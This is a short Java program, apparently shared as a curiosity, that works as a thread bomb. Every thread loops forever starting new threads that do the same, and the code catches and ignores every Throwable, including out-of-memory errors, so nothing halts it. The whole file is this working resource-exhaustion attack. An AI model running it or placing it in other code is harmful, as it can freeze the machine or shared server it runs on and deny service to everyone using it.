// Starts threads that start threads, and catches whatever says that there can be no more.
public class Main {
    static void start() {
        for (;;) {
            try {
                new Thread(Main::start).start();
            } catch (Throwable ignored) {
            }
        }
    }

    public static void main(String[] arguments) {
        start();
    }
}
